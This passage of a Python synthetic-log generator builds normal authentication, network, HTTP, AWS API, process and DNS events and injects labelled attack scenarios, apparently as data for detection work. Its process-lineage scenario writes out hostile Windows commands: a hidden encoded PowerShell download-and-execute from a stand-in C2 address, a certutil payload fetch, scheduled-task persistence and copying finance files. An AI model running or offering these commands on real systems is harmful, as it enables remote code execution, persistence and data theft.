class AuthBatch:
    """Column arrays for a batch of Authentication (3002) events; scalars broadcast."""

    time: Any
    user: Any
    activity_id: Any
    src_ip: Any
    src_country: Any  # None: an internal address, no geolocation
    src_host: Any  # host index or -1
    dst_host: Any  # host index
    protocol_id: Any
    logon_type_id: Any
    is_mfa: Any
    is_remote: Any
    service: Any
    failure: Any  # -1 success, else index into AUTH_FAILURES
    duration: Any
    product: Any
    scenario: Any = NORMAL


def _auth_events(pop: Population, b: AuthBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "user", "activity_id", "src_ip", "src_country", "src_host", "dst_host",
                                                  "protocol_id", "logon_type_id", "is_mfa", "is_remote", "service",
                                                  "failure", "duration", "product")]
    src_port = _ephemeral_ports(cols[0])
    events = []
    for (t, u, act, ip, country, src_h, dst_h, proto, logon, mfa, remote, service, fail, dur, product), port, scenario in zip(
            zip(*cols), src_port, _scenario_list(b.scenario, n)):
        failed = fail >= 0
        code, detail, sev = AUTH_FAILURES[fail] if failed else (("SUCCESS" if product == "okta" else "0x0"), "", 1)
        name = pop.user_name[u]
        verb = "logged off" if act == 2 else ("failed to log on" if failed else "logged on")
        event = _base(3002, act, t, failed=failed, fail_severity=sev, status_code=code, status_detail=detail,
                      message=f"User {name} {verb} to {service} from {ip}", duration=dur, product=product)
        src = {"ip": ip, "port": port}
        if src_h >= 0:
            src["hostname"] = pop.host_name[src_h]
        if country is not None:
            src["location"] = {"country": country}
        event.update({
            "user": _user(pop, u), "src_endpoint": src,
            "dst_endpoint": {"ip": pop.host_ip[dst_h], "port": 88 if proto == 2 else 443, "hostname": pop.host_name[dst_h]},
            "auth_protocol": AUTH_PROTOCOLS[proto], "auth_protocol_id": proto,
            "logon_type": LOGON_TYPES[logon], "logon_type_id": logon,
            "is_mfa": mfa, "is_remote": remote, "service": {"name": service},
        })
        events.append(_finish(event, [("user.name", OBS_USER, name), ("src_endpoint.ip", OBS_IP, ip)], scenario))
    return events


def _ephemeral_ports(times: list[int]) -> list[int]:
    """Ephemeral source ports that look random yet need no generator draw: derived from the event time."""
    return [49152 + (t * 2654435761 >> 7) % 16384 for t in times]


@dataclass
class NetworkBatch:
    time: Any
    src_ip: Any
    src_host: Any  # host index or -1 (an address we do not know)
    dst_ip: Any
    dst_host: Any  # host index or -1 (the internet)
    dst_port: Any
    protocol: Any
    activity_id: Any  # 4 Fail / 5 Refuse are the failures
    bytes_in: Any
    bytes_out: Any
    duration: Any
    scenario: Any = NORMAL


NETWORK_FAILURES = {4: ("ETIMEDOUT", "Connection timed out.", 2), 5: ("REJECT", "Connection refused (RST).", 2)}


def _network_events(pop: Population, b: NetworkBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "src_ip", "src_host", "dst_ip", "dst_host", "dst_port", "protocol",
                                                  "activity_id", "bytes_in", "bytes_out", "duration")]
    events = []
    for (t, sip, sh, dip, dh, dport, proto, act, b_in, b_out, dur), sport, scenario in zip(
            zip(*cols), _ephemeral_ports(cols[0]), _scenario_list(b.scenario, n)):
        failed = act in NETWORK_FAILURES
        code, detail, sev = NETWORK_FAILURES[act] if failed else ("OK", "", 1)
        direction = 3 if dh >= 0 else 2
        event = _base(4001, act, t, failed=failed, fail_severity=sev, status_code=code, status_detail=detail,
                      message=f"{proto} {sip}:{sport} -> {dip}:{dport} {ACTIVITY_NAMES[4001][act].lower()}",
                      duration=dur, product="zeek_conn")
        src = {"ip": sip, "port": sport}
        if sh >= 0:
            src["hostname"] = pop.host_name[sh]
        dst = {"ip": dip, "port": dport}
        if dh >= 0:
            dst["hostname"] = pop.host_name[dh]
        event.update({
            "src_endpoint": src, "dst_endpoint": dst,
            "connection_info": {"protocol_name": proto, "direction": DIRECTIONS[direction], "direction_id": direction},
            "traffic": {"bytes_in": b_in, "bytes_out": b_out, "packets_in": _packets(b_in), "packets_out": _packets(b_out)},
        })
        events.append(_finish(event, [("src_endpoint.ip", OBS_IP, sip), ("dst_endpoint.ip", OBS_IP, dip)], scenario))
    return events


def _packets(n_bytes: int) -> int:
    return 0 if n_bytes == 0 else 1 + n_bytes // 1200  # ~1,200 payload bytes a packet on average


@dataclass
class HttpBatch:
    time: Any
    src_host: Any
    site: Any  # index into SITES
    method: Any
    path: Any
    query: Any  # "" for none
    user_agent: Any
    request_length: Any
    code: Any
    latency: Any
    response_length: Any
    scenario: Any = NORMAL


def _http_events(pop: Population, b: HttpBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "src_host", "site", "method", "path", "query", "user_agent",
                                                  "request_length", "code", "latency", "response_length")]
    events = []
    for (t, sh, site, method, path, query, ua, req_len, code, latency, resp_len), sport, scenario in zip(
            zip(*cols), _ephemeral_ports(cols[0]), _scenario_list(b.scenario, n)):
        failed = code >= 400
        hostname, server, _paths = SITES[site]
        event = _base(4002, HTTP_ACTIVITY[method], t, failed=failed, fail_severity=3 if code >= 500 else 2,
                      status_code=str(code), status_detail=HTTP_REASONS[code],
                      message=f"{method} https://{hostname}{path} {code}", duration=latency,
                      product="nginx" if server else "proxy")
        url = {"hostname": hostname, "path": path, "scheme": "https"}
        if query:
            url["query_string"] = query
        dst = {"ip": pop.host_ip[SERVER_INDEX[server]] if server else pop.external_ip[site], "port": 443, "hostname": hostname}
        event.update({
            "src_endpoint": {"ip": pop.host_ip[sh], "port": sport, "hostname": pop.host_name[sh]},
            "dst_endpoint": dst,
            "http_request": {"http_method": method, "url": url, "user_agent": ua, "length": req_len},
            "http_response": {"code": code, "latency": latency, "length": resp_len},
        })
        events.append(_finish(event, [("src_endpoint.ip", OBS_IP, pop.host_ip[sh]),
                                      ("http_request.url", OBS_URL, f"https://{hostname}{path}")], scenario))
    return events


@dataclass
class ApiBatch:
    time: Any
    user: Any
    operation: Any  # index into API_OPERATIONS
    src_ip: Any
    country: Any  # None for an internal (service) caller
    user_agent: Any
    failure: Any  # -1 success, else index into API_FAILURES
    resource: Any
    region: Any
    duration: Any
    scenario: Any = NORMAL


def _api_events(pop: Population, b: ApiBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "user", "operation", "src_ip", "country", "user_agent", "failure",
                                                  "resource", "region", "duration")]
    events = []
    for (t, u, op, ip, country, ua, fail, resource, region, dur), scenario in zip(zip(*cols), _scenario_list(b.scenario, n)):
        service, operation, act, rtype, _privileged = API_OPERATIONS[op]
        failed = fail >= 0
        code, http_code, sev = API_FAILURES[fail] if failed else ("OK", 200, 1)
        name = pop.user_name[u]
        prefix = service.split(".")[0]
        detail = f"User: {name} is not authorized to perform: {prefix}:{operation}" if code == "AccessDenied" else (code if failed else "")
        event = _base(6003, act, t, failed=failed, fail_severity=sev, status_code=code, status_detail=detail,
                      message=f"{prefix}:{operation} by {name} {'failed: ' + code if failed else 'succeeded'}",
                      duration=dur, product="cloudtrail")
        src = {"ip": ip}
        if country is not None:
            src["location"] = {"country": country}
        event.update({
            "actor": {"user": _user(pop, u)},
            "api": {"operation": operation, "service": {"name": service}},
            "src_endpoint": src,
            "http_request": {"user_agent": ua},
            "http_response": {"code": http_code},
            "resources": [{"type": rtype, "uid": f"arn:aws:{rtype.split('::')[1].lower()}::{AWS_ACCOUNT}:{resource}"}],
            "cloud": {"provider": "AWS", "region": region},
        })
        events.append(_finish(event, [("actor.user.name", OBS_USER, name), ("src_endpoint.ip", OBS_IP, ip),
                                      ("resources.uid", OBS_RESOURCE, event["resources"][0]["uid"])], scenario))
    return events


@dataclass
class ProcessBatch:
    time: Any
    user: Any
    host: Any
    activity_id: Any  # 1 Launch, 2 Terminate
    name: Any
    cmd_line: Any
    pid: Any
    parent_name: Any
    parent_pid: Any
    exit_code: Any  # None on launch
    denied: Any  # bool: the launch was refused (access denied)
    scenario: Any = NORMAL


def _process_events(pop: Population, b: ProcessBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "user", "host", "activity_id", "name", "cmd_line", "pid",
                                                  "parent_name", "parent_pid", "exit_code", "denied")]
    events = []
    for (t, u, h, act, pname, cmd, pid, parent, ppid, exit_code, denied), scenario in zip(zip(*cols), _scenario_list(b.scenario, n)):
        crashed = exit_code is not None and exit_code != 0
        failed = denied or crashed
        code = "0xC0000022" if denied else (str(exit_code) if crashed else "0")
        detail = "Access is denied." if denied else (f"Process exited with code {exit_code}." if crashed else "")
        windows = pop.host_os[h] == "Windows"
        verb = "launched" if act == 1 else "terminated"
        event = _base(1007, act, t, failed=failed, fail_severity=3, status_code=code, status_detail=detail,
                      message=f"Process {pname} ({pid}) {'could not be launched' if denied else verb} on {pop.host_name[h]}",
                      duration=0, product="sysmon" if windows else "osquery")
        event.update({
            "device": {"hostname": pop.host_name[h], "ip": pop.host_ip[h], "os": {"name": pop.host_os[h]}},
            "actor": {"user": _user(pop, u)},
            "process": {"pid": pid, "name": pname, "cmd_line": cmd, "parent_process": {"name": parent, "pid": ppid}},
        })
        if exit_code is not None:
            event["exit_code"] = exit_code
        events.append(_finish(event, [("process.name", OBS_PROCESS, pname), ("device.hostname", OBS_HOSTNAME, pop.host_name[h]),
                                      ("actor.user.name", OBS_USER, pop.user_name[u])], scenario))
    return events


@dataclass
class DnsBatch:
    time: Any
    src_host: Any
    resolver: Any  # host index
    hostname: Any
    qtype: Any
    rcode_id: Any
    answers: Any  # list of answer dicts per event ([] on failure)
    latency: Any
    scenario: Any = NORMAL


def _dns_events(pop: Population, b: DnsBatch) -> list[dict]:
    n = len(b.time)
    cols = [_as_list(getattr(b, f), n) for f in ("time", "src_host", "resolver", "hostname", "qtype", "rcode_id", "answers", "latency")]
    events = []
    for (t, sh, resolver, qname, qtype, rcode, answers, latency), sport, scenario in zip(
            zip(*cols), _ephemeral_ports(cols[0]), _scenario_list(b.scenario, n)):
        failed = rcode != 0
        event = _base(4003, 2, t, failed=failed, fail_severity=2, status_code=DNS_RCODES[rcode],
                      status_detail="" if not failed else f"{DNS_RCODES[rcode]} for {qname}",
                      message=f"{qtype} {qname} -> {DNS_RCODES[rcode]}", duration=latency, product="zeek_dns")
        event.update({
            "src_endpoint": {"ip": pop.host_ip[sh], "port": sport, "hostname": pop.host_name[sh]},
            "dst_endpoint": {"ip": pop.host_ip[resolver], "port": 53, "hostname": pop.host_name[resolver]},
            "connection_info": {"protocol_name": "udp", "direction": "Lateral", "direction_id": 3},
            "query": {"hostname": qname, "type": qtype, "class": "IN"},
            "answers": answers, "rcode_id": rcode, "rcode": DNS_RCODES[rcode], "response_time": t + latency,
        })
        events.append(_finish(event, [("query.hostname", OBS_HOSTNAME, qname), ("src_endpoint.ip", OBS_IP, pop.host_ip[sh])], scenario))
    return events


# ----------------------------------------------------------------------------- normal behaviour, per class


def _normal_auth(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    service = pop.is_service[users]
    sso = ~service & (rng.random(n) < 0.5)  # half of people's logons are SaaS single sign-on
    saas = _choose_per_row(rng, pop.saas_cum, users)
    dc = np.where(rng.random(n) < 0.6, SERVER_INDEX["dc01"], SERVER_INDEX["dc02"])
    logoff = ~sso & (rng.random(n) < 0.15)
    fail_rate = 0.035 * pop.fail_prone[users] * np.where(service, 0.3, 1.0)
    failed = ~logoff & (rng.random(n) < fail_rate)
    reason = rng.choice(len(AUTH_FAILURES), size=n, p=(0.7, 0.05, 0.1, 0.15))
    reason = np.where(~sso & (reason == 3), 0, reason)  # MFA challenges only happen on SSO
    country = pop.country[users]
    src_ip = np.where(sso, pop.home_ip[users], pop.host_ip[pop.host[users]])
    return _auth_events(pop, AuthBatch(
        time=times, user=users, activity_id=np.where(logoff, 2, 1), src_ip=src_ip,
        src_country=np.where(sso, country, None), src_host=np.where(sso, -1, pop.host[users]),
        dst_host=np.where(sso, SERVER_INDEX["vpn01"], dc),
        protocol_id=np.where(sso, 5, 2), logon_type_id=np.where(sso, 3, np.where(service, 5, np.where(rng.random(n) < 0.7, 2, 7))),
        is_mfa=sso & (rng.random(n) < 0.92), is_remote=sso & pop.is_remote[users],
        service=np.where(sso, np.array(SAAS_SERVICES, dtype=object)[saas], "Active Directory"),
        failure=np.where(failed, reason, -1), duration=_heavy_tailed(rng, n, median=180, sigma=0.7).astype(np.int64),
        product=np.where(sso, "okta", "windows"),
    ))


def _normal_network(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    src = pop.host[users]
    internal = rng.random(n) < np.where(pop.is_service[users], 0.85, 0.5)
    server_p = np.array([row[4] for row in SERVERS])
    server = rng.choice(len(SERVERS), size=n, p=server_p / server_p.sum())
    for name, target in (("svc-backup", "backup01"), ("svc-etl", "db02"), ("svc-sync", "file02")):  # bulk copies have a home
        server[users == int(np.flatnonzero(pop.user_name == name)[0])] = SERVER_INDEX[target]
    port_pick = rng.integers(0, 1_000_000, size=n)
    server_port = np.array([SERVERS[s][3][p % len(SERVERS[s][3])] for s, p in zip(server.tolist(), port_pick.tolist())])
    external = rng.choice(len(pop.external_ip), size=n, p=_zipf_probs(len(pop.external_ip), 1.1))
    web_port = rng.choice(np.array([443, 80, 22, 8443]), size=n, p=(0.86, 0.1, 0.02, 0.02))
    scale = np.array([HEAVY_SENDERS.get(str(pop.user_name[u]), 1.0) for u in range(pop.n_users)])[users]
    activity = rng.choice(np.array([6, 1, 2, 3, 4, 5]), size=n, p=(0.78, 0.08, 0.09, 0.02, 0.015, 0.015))
    failed = np.isin(activity, (4, 5))
    bytes_out = (_heavy_tailed(rng, n, median=2_500, sigma=1.8) * scale).astype(np.int64)
    bytes_in = _heavy_tailed(rng, n, median=18_000, sigma=2.0).astype(np.int64)
    bytes_out = np.where(failed, 60 * rng.integers(1, 4, size=n), bytes_out)
    bytes_in = np.where(failed, 0, bytes_in)
    duration = np.where(failed, rng.integers(1, 30_000, size=n), _heavy_tailed(rng, n, median=1_500, sigma=1.6) * np.sqrt(scale)).astype(np.int64)
    dst_port = np.where(internal, server_port, web_port)
    return _network_events(pop, NetworkBatch(
        time=times, src_ip=pop.host_ip[src], src_host=src,
        dst_ip=np.where(internal, pop.host_ip[server], pop.external_ip[external]), dst_host=np.where(internal, server, -1),
        dst_port=dst_port, protocol=np.where(np.isin(dst_port, (53, 514, 1194)), "udp", "tcp"), activity_id=activity,
        bytes_in=bytes_in, bytes_out=bytes_out, duration=duration,
    ))


def _fill(template: str, rng_ints: Sequence[int], user: str) -> str:
    n, k, w = rng_ints
    return template.format(n=n, k=k % 40, word=WORDS[w % len(WORDS)], hex=f"{n * 2654435761 % (1 << 32):08x}", user=user,
                           HEX=f"{n * 40503 % (1 << 32):08X}")


def _normal_http(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    site = _choose_per_row(rng, pop.site_cum, users)
    template = (rng.random(n)[:, None] * np.array([len(SITES[s][2]) for s in range(len(SITES))])[None, :]).astype(int)
    template = template[np.arange(n), site]
    ints = rng.integers(1, 100_000, size=(n, 3)).tolist()
    methods, paths, queries = [], [], []
    for s, tpl, nums, u in zip(site.tolist(), template.tolist(), ints, users.tolist()):
        method, path, query = SITES[s][2][tpl]
        methods.append(method)
        paths.append(_fill(path, nums, str(pop.user_name[u])))
        queries.append(_fill(query, nums, str(pop.user_name[u])) if query else "")
    code = _http_codes(rng, np.array(methods, dtype=object))
    latency = _heavy_tailed(rng, n, median=90, sigma=0.9).astype(np.int64)
    latency = np.where(code >= 500, latency + rng.integers(200, 3_000, size=n), latency)
    agents = np.where(pop.is_service[users], np.array(TOOL_AGENTS, dtype=object)[users % len(TOOL_AGENTS)],
                      np.array(BROWSER_AGENTS, dtype=object)[pop.browser[users]])
    is_write = np.isin(np.array(methods, dtype=object), ("POST", "PUT"))
    return _http_events(pop, HttpBatch(
        time=times, src_host=pop.host[users], site=site, method=methods, path=paths, query=queries, user_agent=agents,
        request_length=np.where(is_write, _heavy_tailed(rng, n, median=1_200, sigma=1.2), 0).astype(np.int64),
        code=code, latency=latency,
        response_length=np.where(code == 204, 0, _heavy_tailed(rng, n, median=14_000, sigma=1.6)).astype(np.int64),
    ))


def _http_codes(rng: np.random.Generator, methods: np.ndarray) -> np.ndarray:
    n = len(methods)
    ok = np.where(methods == "POST", 201, np.where(methods == "DELETE", 204, 200))
    ok = np.where((methods == "GET") & (rng.random(n) < 0.08), 304, ok)
    ok = np.where((methods == "GET") & (rng.random(n) < 0.02), 302, ok)
    errors = rng.choice(np.array([404, 401, 403, 400, 429, 500, 502, 503, 504]), size=n,
                        p=(0.38, 0.12, 0.12, 0.08, 0.05, 0.13, 0.05, 0.04, 0.03))
    return np.where(rng.random(n) < 0.04, errors, ok)


def _normal_api(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    ops = _choose_per_row(rng, pop.api_cum, users)
    hour = (times // HOUR_MS) % 24
    late = API_PRIVILEGED[ops] & ((hour < 7) | (hour >= 20))
    ops[late] = API_OP_INDEX["GetUser"]  # administrators change IAM in the day; at night they only look
    failed = rng.random(n) < 0.03
    failure = np.where(failed, rng.choice(len(API_FAILURES), size=n, p=(0.7, 0.2, 0.1)), -1)
    service = pop.is_service[users]
    return _api_events(pop, ApiBatch(
        time=times, user=users, operation=ops, src_ip=pop.home_ip[users],
        country=np.where(service, None, pop.country[users]),
        user_agent=np.where(service, "Boto3/1.34.0 Python/3.11.8", np.where(rng.random(n) < 0.5, "aws-cli/2.15.30 Python/3.11.8", "console.amazonaws.com")),
        failure=failure, resource=_resources(rng, pop, ops, users),
        region=np.where(rng.random(n) < 0.8, "us-east-1", "eu-west-1"),
        duration=_heavy_tailed(rng, n, median=60, sigma=0.8).astype(np.int64),
    ))


def _resources(rng: np.random.Generator, pop: Population, ops: np.ndarray, users: np.ndarray) -> list[str]:
    ints = rng.integers(1, 100_000, size=(len(ops), 3)).tolist()
    out = []
    for op, nums, u in zip(ops.tolist(), ints, users.tolist()):
        choices = RESOURCE_NAMES[API_OPERATIONS[op][3]]
        out.append(_fill(choices[nums[2] % len(choices)], nums, str(pop.user_name[u])))
    return out


def _normal_process(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    proc = _choose_per_row(rng, pop.process_cum, users)
    ints = rng.integers(1, 100_000, size=(n, 3)).tolist()
    names, parents, cmds = [], [], []
    for p, nums, u in zip(proc.tolist(), ints, users.tolist()):
        name, _group, parent, template = PROCESSES[p]
        names.append(name)
        parents.append(parent)
        cmds.append(_fill(template, nums, str(pop.user_name[u])))
    terminate = rng.random(n) < 0.35
    denied = ~terminate & (rng.random(n) < 0.015)
    crash_code = rng.choice(np.array([1, 2, 137, -1073741819]), size=n, p=(0.5, 0.2, 0.15, 0.15))
    exit_code = np.where(rng.random(n) < 0.06, crash_code, 0)
    return _process_events(pop, ProcessBatch(
        time=times, user=users, host=pop.host[users], activity_id=np.where(terminate, 2, 1), name=names, cmd_line=cmds,
        pid=rng.integers(250, 16_000, size=n) * 4, parent_name=parents, parent_pid=rng.integers(100, 2_000, size=n) * 4,
        exit_code=[int(c) if t else None for c, t in zip(exit_code.tolist(), terminate.tolist())], denied=denied,
    ))


def _dns_answer(qname: str, qtype: str, ttl: int) -> list[dict]:
    """A stable answer for a name: the same name resolves to the same address all period."""
    h = zlib.crc32(qname.encode("ascii"))
    internal = qname.endswith(COMPANY)
    rdata = {
        "A": f"10.0.1.{10 + h % 22}" if internal else f"{13 + h % 200}.{h >> 8 & 255}.{h >> 16 & 255}.{1 + (h >> 24) % 254}",
        "AAAA": f"2606:4700:{h & 0xffff:x}::{h >> 16:x}",
        "CNAME": f"edge-{h % 97}.cdn.example.net",
        "MX": f"10 mx{h % 3}.{qname}",
        "TXT": '"v=spf1 include:_spf.example.net ~all"',
        "PTR": f"host-{h % 1000}.{qname}",
    }[qtype]
    return [{"type": qtype, "rdata": rdata, "ttl": ttl, "class": "IN"}]


def _normal_dns(rng: np.random.Generator, pop: Population, users: np.ndarray, times: np.ndarray) -> list[dict]:
    n = len(users)
    names = np.array(DNS_NAMES, dtype=object)[rng.choice(len(DNS_NAMES), size=n, p=_zipf_probs(len(DNS_NAMES), 0.9))]
    qtype = rng.choice(np.array(DNS_TYPES, dtype=object), size=n, p=DNS_TYPE_P)
    rcode = rng.choice(np.array([0, 3, 2, 5]), size=n, p=(0.967, 0.025, 0.006, 0.002))
    names = np.where(rcode == 3, np.array(DNS_NX_NAMES, dtype=object)[rng.integers(0, len(DNS_NX_NAMES), size=n)], names)
    ttl = rng.choice(np.array([60, 300, 3600]), size=n, p=(0.3, 0.5, 0.2))
    answers = [_dns_answer(q, t, int(tt)) if r == 0 else [] for q, t, r, tt in zip(names.tolist(), qtype.tolist(), rcode.tolist(), ttl.tolist())]
    return _dns_events(pop, DnsBatch(
        time=times, src_host=pop.host[users], resolver=np.array(RESOLVERS)[rng.integers(0, 2, size=n)],
        hostname=names, qtype=qtype, rcode_id=rcode, answers=answers,
        latency=_heavy_tailed(rng, n, median=6, sigma=1.3).astype(np.int64),
    ))


NORMAL_BUILDERS: dict[int, Callable[..., list[dict]]] = {
    3002: _normal_auth, 4001: _normal_network, 4002: _normal_http, 6003: _normal_api, 1007: _normal_process, 4003: _normal_dns,
}


def _normal_events(rng: np.random.Generator, pop: Population, n: int, start_ms: int) -> list[dict]:
    users = rng.choice(pop.n_users, size=n, p=pop.activity / pop.activity.sum())
    times = _sample_times(rng, pop, users, start_ms)
    classes = _choose_per_row(rng, pop.class_cum, users)
    events: list[dict] = []
    for position, class_uid in enumerate(CLASS_ORDER):
        chosen = classes == position
        events.extend(NORMAL_BUILDERS[class_uid](rng, pop, users[chosen], times[chosen]))
    return events


# ----------------------------------------------------------------------------- anomaly scenarios


def _scenario_counts(n_events: int) -> dict[str, int]:
    return {name: max(1, round(share * n_events)) for name, share in SCENARIO_SHARES.items()}


def _split(total: int, per_incident: int) -> list[int]:
    """Incident sizes adding up to ``total``, each about ``per_incident``."""
    k = max(1, round(total / per_incident))
    base, extra = divmod(total, k)
    return [base + (1 if i < extra else 0) for i in range(k)]


def _incident_start(rng: np.random.Generator, start_ms: int, *, hours: tuple[int, int], weekdays_only: bool) -> int:
    days = [d for d in range(PERIOD_DAYS) if not (weekdays_only and d % 7 >= 5)]
    day = int(rng.choice(days))
    hour = int(rng.integers(hours[0], hours[1]))
    return start_ms + day * 24 * HOUR_MS + hour * HOUR_MS + int(rng.integers(0, HOUR_MS))


def _gaps(rng: np.random.Generator, t0: int, n: int, mean_ms: float) -> np.ndarray:
    return t0 + np.cumsum(rng.exponential(mean_ms, size=n)).astype(np.int64)


def _humans(pop: Population, *, admin: bool | None = None) -> np.ndarray:
    mask = ~pop.is_service if admin is None else (~pop.is_service & (pop.is_admin == admin))
    return np.flatnonzero(mask)


def _password_spray(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """One foreign address tries one password against many accounts over NTLM (Exchange), a few seconds apart."""
    events: list[dict] = []
    for size in _split(count, 120):
        country = str(rng.choice(ATTACK_COUNTRIES))
        ip = _public_ips(rng, [country])[0]
        t0 = _incident_start(rng, start_ms, hours=(0, 24), weekdays_only=False)
        targets = rng.choice(_humans(pop), size=size, replace=size > N_HUMANS)
        failure = np.zeros(size, dtype=np.int64)
        if size >= 20:
            failure[rng.integers(size // 2, size)] = -1  # one account had the sprayed password
        failure[rng.random(size) < 0.05] = 1  # and a few lock out
        events += _auth_events(pop, AuthBatch(
            time=_gaps(rng, t0, size, 8_000), user=targets, activity_id=1, src_ip=ip, src_country=country, src_host=-1,
            dst_host=SERVER_INDEX["mail01"], protocol_id=1, logon_type_id=3, is_mfa=False, is_remote=True,
            service="Exchange OWA", failure=failure, duration=rng.integers(40, 400, size=size), product="windows",
            scenario="password_spray"))
    return events


def _new_country_login(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """A user's SSO session appears from a country they never log on from, during their working day at home."""
    events: list[dict] = []
    for size in _split(count, 3):
        user = int(rng.choice(_humans(pop)))
        home = pop.country[user]
        country = str(rng.choice([c for c in ATTACK_COUNTRIES + HOME_COUNTRIES if c != home]))
        ip = _public_ips(rng, [country])[0]
        t0 = _incident_start(rng, start_ms, hours=(9, 17), weekdays_only=True)
        failure = np.full(size, -1)
        if size > 1:
            failure[0] = 3  # the real user declined the push; the attacker tried again
        events += _auth_events(pop, AuthBatch(
            time=_gaps(rng, t0, size, 90_000), user=user, activity_id=1, src_ip=ip, src_country=country, src_host=-1,
            dst_host=SERVER_INDEX["vpn01"], protocol_id=5, logon_type_id=3, is_mfa=True, is_remote=True,
            service=str(rng.choice(SAAS_SERVICES)), failure=failure, duration=rng.integers(150, 900, size=size),
            product="okta", scenario="new_country_login"))
    return events


def _data_exfiltration(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """A workstation sends gigabytes to an address nobody else talks to, in the evening, after resolving its name."""
    events: list[dict] = []
    for size in _split(count, 50):
        user = int(rng.choice(_humans(pop)))
        host = int(pop.host[user])
        t0 = _incident_start(rng, start_ms, hours=(19, 23), weekdays_only=False)
        domain = f"sync-{int(rng.integers(1 << 20, 1 << 24)):x}.files-share.top"
        dst_ip = f"45.{int(rng.integers(130, 160))}.{int(rng.integers(1, 255))}.{int(rng.integers(1, 255))}"
        events += _dns_events(pop, DnsBatch(
            time=[t0], src_host=host, resolver=RESOLVERS[0], hostname=domain, qtype="A", rcode_id=0,
            answers=[[{"type": "A", "rdata": dst_ip, "ttl": 60, "class": "IN"}]], latency=int(rng.integers(20, 120)),
            scenario="data_exfiltration"))
        flows = size - 1
        if flows <= 0:
            continue
        bytes_out = (_heavy_tailed(rng, flows, median=400e6, sigma=0.8, tail_share=0.1)).astype(np.int64)
        events += _network_events(pop, NetworkBatch(
            time=_gaps(rng, t0 + 2_000, flows, 60_000), src_ip=pop.host_ip[host], src_host=host, dst_ip=dst_ip, dst_host=-1,
            dst_port=int(rng.choice([443, 22])), protocol="tcp", activity_id=6,
            bytes_in=(bytes_out // rng.integers(300, 800, size=flows)), bytes_out=bytes_out,
            duration=rng.integers(60_000, 600_000, size=flows), scenario="data_exfiltration"))
    return events


def _port_scan(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """One workstation knocks on many ports of several servers within minutes; most are refused."""
    events: list[dict] = []
    for size in _split(count, 200):
        host = int(rng.integers(len(SERVERS), len(SERVERS) + N_WORKSTATIONS))
        targets = rng.choice(len(SERVERS), size=int(rng.integers(3, 7)), replace=False)
        server = targets[rng.integers(0, len(targets), size=size)]
        ports = rng.choice(np.r_[1:1025, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200], size=size)
        is_open = np.array([p in SERVERS[s][3] for s, p in zip(server.tolist(), ports.tolist())])
        activity = np.where(is_open, 1, np.where(rng.random(size) < 0.85, 5, 4))
        t0 = _incident_start(rng, start_ms, hours=(0, 24), weekdays_only=False)
        events += _network_events(pop, NetworkBatch(
            time=_gaps(rng, t0, size, 400), src_ip=pop.host_ip[host], src_host=host, dst_ip=pop.host_ip[server],
            dst_host=server, dst_port=ports, protocol="tcp", activity_id=activity,
            bytes_in=np.where(is_open, 60, 0), bytes_out=np.full(size, 60), duration=np.where(activity == 4, 3_000, rng.integers(0, 5, size=size)),
            scenario="port_scan"))
    return events


LINEAGE_STEPS = (  # (parent, child, command line): an Office macro hands over to PowerShell
    ("winword.exe", "powershell.exe", "powershell.exe -nop -w hidden -enc {payload}"),
    ("powershell.exe", "whoami.exe", "whoami.exe /all"),
    ("powershell.exe", "net.exe", "net.exe group \"Domain Admins\" /domain"),
    ("powershell.exe", "nltest.exe", "nltest.exe /dclist:corp.example"),
    ("powershell.exe", "rundll32.exe", r"rundll32.exe C:\Users\{user}\AppData\Local\Temp\{hex}.dll,DllRegisterServer"),
    ("powershell.exe", "schtasks.exe", r"schtasks.exe /create /sc minute /mo 30 /tn OfficeUpdate /tr C:\Users\{user}\AppData\Local\Temp\{hex}.exe"),
    ("rundll32.exe", "cmd.exe", "cmd.exe /c copy \\\\file01.corp.example\\finance$\\*.xlsx %TEMP%"),
    ("powershell.exe", "certutil.exe", "certutil.exe -urlcache -split -f http://{ip}/a.bin"),
)


def _suspicious_process_lineage(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    events: list[dict] = []
    windows_users = [u for u in _humans(pop).tolist() if pop.host_os[pop.host[u]] == "Windows"]
    for size in _split(count, len(LINEAGE_STEPS)):
        user = int(rng.choice(windows_users))
        name = str(pop.user_name[user])
        c2 = _public_ips(rng, [str(rng.choice(ATTACK_COUNTRIES))])[0]
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{c2}/{int(rng.integers(1 << 16)):x}.ps1')"
        payload = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
        steps = [LINEAGE_STEPS[i % len(LINEAGE_STEPS)] for i in range(size)]
        winword_pid, *child_pid = (rng.integers(500, 16_000, size=size + 1) * 4).tolist()
        pid_of = {"winword.exe": winword_pid}  # the latest pid of each program in the chain
        parent_pid = []
        for (parent, child, _cmd), pid in zip(steps, child_pid):
            parent_pid.append(pid_of.get(parent, winword_pid))
            pid_of[child] = pid
        hex_name = f"{int(rng.integers(1 << 28, 1 << 32)):08x}"
        events += _process_events(pop, ProcessBatch(
            time=_gaps(rng, _incident_start(rng, start_ms, hours=(9, 17), weekdays_only=True), size, 4_000),
            user=user, host=int(pop.host[user]), activity_id=1, name=[s[1] for s in steps],
            cmd_line=[s[2].format(payload=payload, user=name, hex=hex_name, ip=c2) for s in steps], pid=child_pid,
